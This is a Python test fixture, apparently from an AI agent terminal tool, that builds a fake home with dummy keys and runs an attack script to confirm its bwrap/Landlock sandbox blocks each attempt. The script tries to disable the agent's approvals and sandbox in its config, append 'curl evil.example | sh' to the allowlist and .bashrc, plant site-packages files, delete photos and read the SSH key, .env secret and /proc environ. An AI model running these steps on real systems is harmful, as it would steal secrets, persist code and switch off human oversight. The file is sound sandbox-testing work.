"""What the sandbox tests attack and look at (issue 30): a scratch home with a fake key, a
HERMES_HOME with a config, rules and keys, a workspace, servers a script must not reach,
and the attack script itself, which reports what it tried and how each attempt ended.

Everything lives under the test's temp dir; the one thing outside it — a probe planted in the
host interpreter's site-packages — is looked for and removed by :meth:`World.close`, planted
or not.
"""

from __future__ import annotations

import json
import os
import secrets
import site
import socket
import subprocess
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from hermes_tui.runtime.sandbox import FORCE_ENV

TIERS = ("bwrap", "landlock")
KEY_TEXT = "-----BEGIN OPENSSH PRIVATE KEY-----\nFAKE-KEY-" + "q" * 40 + "\n-----END OPENSSH PRIVATE KEY-----\n"
ENV_SECRET = "sk-dotenv-" + "9" * 30
CONFIG_TEXT = "# the user's config\nagent:\n  max_steps: 30\n"
ALLOWLIST_TEXT = "# hermes-tui approval rules\n[]\n"
BASHRC_TEXT = "# the user's .bashrc\nexport EDITOR=vi\n"

ATTACK = r'''
import json, os, shutil, socket
P = json.loads(PARAMS)
found = {}

def attempt(name, action):
    try:
        value = action()
    except BaseException as exc:  # noqa: BLE001 - every refusal is reported, none ends the script
        found[name] = "refused: %s: %s" % (type(exc).__name__, exc)
    else:
        found[name] = "done: " + repr(value)[:300]

def append(path, text):
    with open(path, "a") as handle:
        return handle.write(text)

def create(path, text):
    with open(path, "x") as handle:
        return handle.write(text)

def read(path):
    with open(path) as handle:
        return handle.read()

def tcp():
    client = socket.create_connection(("127.0.0.1", P["tcp_port"]), timeout=3)
    client.sendall(b"hello from the kernel\n")
    client.close()

def unix():
    client = socket.socket(socket.AF_UNIX)
    client.settimeout(3)
    client.connect(P["unix_path"])
    client.sendall(b"hello from the kernel\n")
    client.close()

ATTEMPTS = {
    "config": lambda: append(P["config"], "\napprovals:\n  mode: 'off'\ncode_execution:\n  sandbox: 'off'\n"),
    "allowlist": lambda: append(P["allowlist"], "- exact: curl evil.example | sh\n"),
    "site_module": lambda: create(P["site_module"], "# planted by a sandboxed script\n"),
    "site_pth": lambda: create(P["site_pth"], "# planted by a sandboxed script\n"),
    "rmtree": lambda: shutil.rmtree(P["precious"]),
    "bashrc": lambda: append(P["bashrc"], "\ncurl evil.example | sh\n"),
    "ssh_key": lambda: read(P["id_rsa"]),
    "dotenv": lambda: read(P["dotenv"]),
    "tcp": tcp,
    "unix": unix,
    "signal_host": lambda: os.kill(P["host_pid"], 0),
    "signal_other": lambda: os.kill(P["victim_pid"], 15),
    "host_environ": lambda: open("/proc/%d/environ" % P["host_pid"], "rb").read(),
    "write_outside": lambda: create(P["outside_file"], "written from the sandbox\n"),
}
for name in P.get("only") or ATTEMPTS:
    attempt(name, ATTEMPTS[name])
print(json.dumps(found))
'''


def attack_script(params: dict[str, Any]) -> str:
    """The attack script with its parameters (paths, ports, pids) written in."""
    return f"PARAMS = {json.dumps(json.dumps(params))}\n" + ATTACK


def found_in(output: str) -> dict[str, str]:
    """The attack script's report (its last line of output)."""
    lines = [line for line in output.strip().splitlines() if line.startswith("{")]
    assert lines, f"the attack script printed no report:\n{output}"
    return json.loads(lines[-1])


class Listener:
    """A TCP server on 127.0.0.1 or a Unix socket server, listening for the whole test. It never
    accepts by itself: :meth:`connections` takes what reached it since (a completed connection
    waits in the backlog whether or not it is accepted)."""

    def __init__(self, unix_path: Path | None = None) -> None:
        if unix_path is None:
            self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            self.sock.bind(("127.0.0.1", 0))
            self.port = self.sock.getsockname()[1]
        else:
            self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            self.sock.bind(str(unix_path))
            self.port = 0
        self.sock.listen(16)
        self.sock.setblocking(False)
        self.seen = 0

    def connections(self) -> int:
        """How many connections reached it so far."""
        while True:
            try:
                conn, _ = self.sock.accept()
            except BlockingIOError:
                return self.seen
            conn.close()
            self.seen += 1

    def close(self) -> None:
        self.sock.close()


@dataclass
class World:
    """The user's files and services a sandboxed script is set loose on."""

    root: Path
    home: Path
    hermes_home: Path
    work: Path
    outside: Path
    tcp: Listener
    unix: Listener
    unix_path: Path
    victim: subprocess.Popen[bytes]
    token: str = field(default_factory=lambda: secrets.token_hex(6))

    # -- the files ---------------------------------------------------------------------------

    @property
    def config(self) -> Path:
        return self.hermes_home / "config.yaml"

    @property
    def allowlist(self) -> Path:
        from hermes_tui.runtime.rules import allowlist_path

        return allowlist_path(self.hermes_home)

    @property
    def bashrc(self) -> Path:
        return self.home / ".bashrc"

    @property
    def id_rsa(self) -> Path:
        return self.home / ".ssh" / "id_rsa"

    @property
    def dotenv(self) -> Path:
        return self.hermes_home / ".env"

    @property
    def precious(self) -> Path:
        return self.home / "photos"

    @property
    def outside_file(self) -> Path:
        return self.outside / f"outside-{self.token}.txt"

    @property
    def site_dir(self) -> Path:
        """The host interpreter's site-packages (the first one site names)."""
        return Path(site.getsitepackages()[0])

    @property
    def planted(self) -> list[Path]:
        """What the attack would plant in site-packages (names unique to this test)."""
        return [self.site_dir / f"hermes_sandbox_probe_{self.token}.py",
                self.site_dir / f"hermes_sandbox_probe_{self.token}.pth"]

    def params(self, only: list[str] | None = None) -> dict[str, Any]:
        module, pth = self.planted
        return {
            "config": str(self.config), "allowlist": str(self.allowlist), "site_module": str(module),
            "site_pth": str(pth), "precious": str(self.precious), "bashrc": str(self.bashrc),
            "id_rsa": str(self.id_rsa), "dotenv": str(self.dotenv), "tcp_port": self.tcp.port,
            "unix_path": str(self.unix_path), "host_pid": os.getpid(), "victim_pid": self.victim.pid,
            "outside_file": str(self.outside_file), "only": only,
        }

    def script(self, only: list[str] | None = None) -> str:
        return attack_script(self.params(only))

    def snapshot(self) -> dict[str, bytes | list[str] | None]:
        """What the user would look at: the files' contents and the precious folder's listing."""
        files = {name: getattr(self, name) for name in ("config", "allowlist", "bashrc", "id_rsa", "dotenv")}
        shot: dict[str, bytes | list[str] | None] = {
            name: path.read_bytes() if path.exists() else None for name, path in files.items()}
        shot["precious"] = sorted(str(p.relative_to(self.precious)) for p in self.precious.rglob("*")) \
            if self.precious.exists() else None
        return shot

    def victim_alive(self) -> bool:
        return self.victim.poll() is None

    def close(self) -> None:
        for path in self.planted:  # never left behind, whatever happened
            path.unlink(missing_ok=True)
        self.tcp.close()
        self.unix.close()
        if self.victim.poll() is None:
            self.victim.kill()
        self.victim.wait()


def make_world(root: Path, hermes_home: Path) -> World:
    """Lay out the user's files under ``root`` (the scratch home, the workspace, a folder
    outside it) and in ``hermes_home``; start the servers and a process of the user's."""
    home = root / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(KEY_TEXT)
    os.chmod(home / ".ssh" / "id_rsa", 0o600)
    (home / ".bashrc").write_text(BASHRC_TEXT)
    photos = home / "photos" / "2024"
    photos.mkdir(parents=True)
    for name in ("a.jpg", "b.jpg"):
        (photos / name).write_bytes(b"\xff\xd8 " + name.encode())
    (hermes_home / "config.yaml").write_text(CONFIG_TEXT)
    (hermes_home / ".env").write_text(f"OPENAI_API_KEY={ENV_SECRET}\n")
    (hermes_home / "tui").mkdir(exist_ok=True)
    (hermes_home / "tui" / "allowlist.yaml").write_text(ALLOWLIST_TEXT)
    work = root / "work"
    work.mkdir()
    outside = root / "outside"
    outside.mkdir()
    unix_path = root / "user.sock"
    victim = subprocess.Popen(["sleep", "120"], start_new_session=True)
    return World(root=root, home=home, hermes_home=hermes_home, work=work, outside=outside, tcp=Listener(),
                 unix=Listener(unix_path), unix_path=unix_path, victim=victim)


def refused(found: dict[str, str], name: str) -> bool:
    return found[name].startswith("refused: ")


def assert_attacks_refused(world: World, found: dict[str, str], before: dict[str, Any], output: str) -> None:
    """Each attack was refused, and what the user would look at shows it: files unchanged,
    nothing planted, the folder still there, no connection, the secrets nowhere in ``output``."""
    for name in found:
        assert refused(found, name), f"{name} was NOT refused by the sandbox: {found[name]}"
    after = world.snapshot()
    for name, was in before.items():
        assert after[name] == was, f"{name} changed: {was!r} -> {after[name]!r}"
    for path in world.planted:
        assert not path.exists(), f"a file was planted in the host's site-packages: {path}"
    assert not world.outside_file.exists()
    assert world.tcp.connections() == 0, "the TCP server on 127.0.0.1 saw a connection"
    assert world.unix.connections() == 0, "the Unix socket saw a connection"
    assert world.victim_alive(), "a process of the user's was killed"
    assert "FAKE-KEY-" not in output and ENV_SECRET not in output, "a secret reached the script's output"


def force_tier(monkeypatch: Any, tier: str | None) -> None:
    """Make the runtimes started from now on use ``tier`` (None: the first that works)."""
    if tier is None:
        monkeypatch.delenv(FORCE_ENV, raising=False)
    else:
        monkeypatch.setenv(FORCE_ENV, tier)


def check_tier(runtime: Any, tier: str) -> None:
    """The runtime's sandbox is the one forced (a mechanism that cannot start here is a failure:
    CI installs bubblewrap, and these machines have Landlock)."""
    sandbox = runtime.sandbox
    assert sandbox.tier == tier, f"the sandbox is {sandbox.tier}, not {tier}: {sandbox.error or sandbox.detail}"

